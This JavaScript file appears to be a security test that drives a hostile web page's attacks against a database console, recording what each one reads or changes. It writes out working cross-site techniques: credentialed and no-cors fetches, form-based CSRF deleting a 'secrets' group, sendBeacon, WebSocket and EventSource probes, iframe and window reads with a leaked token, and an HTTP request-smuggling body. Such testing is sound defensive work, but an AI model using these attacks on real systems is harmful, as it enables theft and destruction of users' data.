// The attacks of another site's page on a console. Each attack returns everything that it learned.
// It gets the console's address, the token (as if a user had leaked it), and the values to write.

const target = base.replace(/\/$/, '');
const bearer = { Authorization: `Bearer ${token}` };
const destroy = '{"group":"secrets","dryRun":false}';
const text = async (answer) => `${answer.status} ${answer.type} ${await answer.text()}`;
const within = (promise) => Promise.race([
  promise, new Promise((resolve) => setTimeout(() => resolve('nothing for two seconds'), 2000)),
]);
const element = (name, attributes) => new Promise((resolve) => {
  const made = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) made[key] = value;
  made.onload = () => resolve(`loaded ${made.naturalWidth ?? ''} ${made.sheet ? [...made.sheet.cssRules].map((one) =>
    one.cssText).join('') : ''} ${Object.keys(window).includes('ondol')}`);
  made.onerror = () => resolve('refused');
  document.documentElement.append(made);
});
const form = (method, path, enctype, name, value) => {
  const frame = document.createElement('iframe');
  frame.name = `frame${Math.random()}`;
  const made = document.createElement('form');
  Object.assign(made, { method, action: target + path, enctype, target: frame.name });
  const field = document.createElement('input');
  Object.assign(field, { name, value });
  made.append(field);
  document.documentElement.append(frame, made);
  return new Promise((resolve) => {
    frame.onload = () => {
      try {
        resolve(`the form's answer: ${frame.contentDocument.body.innerText}`);
      } catch (error) {
        resolve(`${error}`);
      }
    };
    made.submit();
  });
};

const attacks = {
  read: async () => text(await fetch(`${target}/api/v1/database`)),
  readWithCookies: async () => text(await fetch(`${target}/api/v1/collections`, { credentials: 'include' })),
  readWithToken: async () => text(await fetch(`${target}/api/v1/backup.tar`, { headers: bearer })),
  readOpaque: async () => text(await fetch(`${target}/api/v1/database`, { mode: 'no-cors', headers: bearer })),
  readPage: async () => text(await fetch(`${target}/assets/app.js`)),
  ask: async () => text(await fetch(`${target}/api/v1/query`, { method: 'POST', body: '{"group":"secrets"}', headers: bearer })),
  destroy: async () => text(await fetch(`${target}/api/v1/delete`, { method: 'POST', body: destroy, headers: bearer })),
  destroyOpaque: async () => text(await fetch(`${target}/api/v1/delete`, { method: 'POST', mode: 'no-cors', body: destroy })),
  destroyKeptAlive: async () => text(await fetch(`${target}/api/v1/delete`,
    { method: 'POST', mode: 'no-cors', keepalive: true, body: destroy })),
  overwrite: async () => text(await fetch(`${target}/api/v1/document?path=secrets%2Fone`,
    { method: 'PUT', body: '{"fields":{}}', headers: { ...bearer, 'If-Match': '"1"' } })),
  remove: async () => text(await fetch(`${target}/api/v1/document?path=secrets%2Fone`, { method: 'DELETE', headers: bearer })),
  beacon: async () => `${navigator.sendBeacon(`${target}/api/v1/delete`, destroy)}`,
  plainForm: () => form('post', '/api/v1/delete', 'text/plain', '{"group":"secrets","dryRun":false,"x":"', '"}'),
  codedForm: () => form('post', '/api/v1/tree?path=secrets', 'application/x-www-form-urlencoded', 'value', '1'),
  partsForm: () => form('post', '/api/v1/object?path=a', 'multipart/form-data', 'a', 'b'),
  getForm: () => form('get', '/api/v1/database', 'text/plain', 'token', token),
  socket: () => new Promise((resolve) => {
    const socket = new WebSocket(`${target.replace('http', 'ws')}/api/v1/live?watch=W10`, [token]);
    socket.onopen = () => resolve('opened');
    socket.onmessage = (event) => resolve(event.data);
    socket.onerror = () => resolve('refused');
  }),
  events: () => new Promise((resolve) => {
    const source = new EventSource(`${target}/api/v1/live?watch=W10`);
    source.addEventListener('version', (event) => resolve(event.data));
    source.onerror = () => { source.close(); resolve('refused'); };
  }),
  image: () => element('img', { src: `${target}/api/v1/database?x=1` }),
  script: () => element('script', { src: `${target}/api/v1/database` }),
  pageScript: () => element('script', { src: `${target}/assets/app.js`, type: 'module' }),
  plainScript: () => element('script', { src: `${target}/assets/session.js` }),
  style: () => element('link', { rel: 'stylesheet', href: `${target}/assets/base.css` }),
  object: () => element('object', { data: `${target}/` }),
  frame: async () => {
    const frame = document.createElement('iframe');
    frame.src = `${target}/#token=${token}`;
    document.documentElement.append(frame);
    await new Promise((resolve) => { frame.onload = resolve; });
    try {
      return `in the frame: ${frame.contentDocument.body.innerText}`;
    } catch (error) {
      return `${error}`;
    }
  },
  window: async () => {
    const opened = window.open(`${target}/#token=${token}`);
    if (!opened) return 'no window';
    await new Promise((resolve) => setTimeout(resolve, 1200));
    try {
      return `in the window: ${opened.document.body.innerText}`;
    } catch (error) {
      return `${error}`;
    } finally {
      opened.close();
    }
  },
  worker: async () => {
    const code = `fetch('${target}/api/v1/database', { headers: ${JSON.stringify(bearer)} }).then((one) => one.text())
      .then(postMessage, (error) => postMessage(String(error)))`;
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    return new Promise((resolve) => { worker.onmessage = (event) => resolve(event.data); });
  },
  // A body that contains requests: the page chooses the names in them.
  hidden: async () => {
    const host = target.replace('http://', '');
    const wrong = `GET /api/v1/database HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer wrong\r\n\r\n`.repeat(150);
    const harm = `POST /api/v1/delete HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${token}\r\n`
      + `Content-Length: ${destroy.length}\r\n\r\n${destroy}`;
    const answers = [];
    for (const size of [100, 5000, 70000, 3 << 20]) {
      const body = `${'x'.repeat(size)}\r\n\r\n${harm}${wrong}`;
      answers.push(await fetch(`${target}/`, { method: 'POST', mode: 'no-cors', body }).then(text, String));
    }
    return answers.join(' ');
  },
};

const found = {};
for (const [name, attack] of Object.entries(attacks)) {
  found[name] = await within(attack().catch((error) => `${error}`));
}
return found;
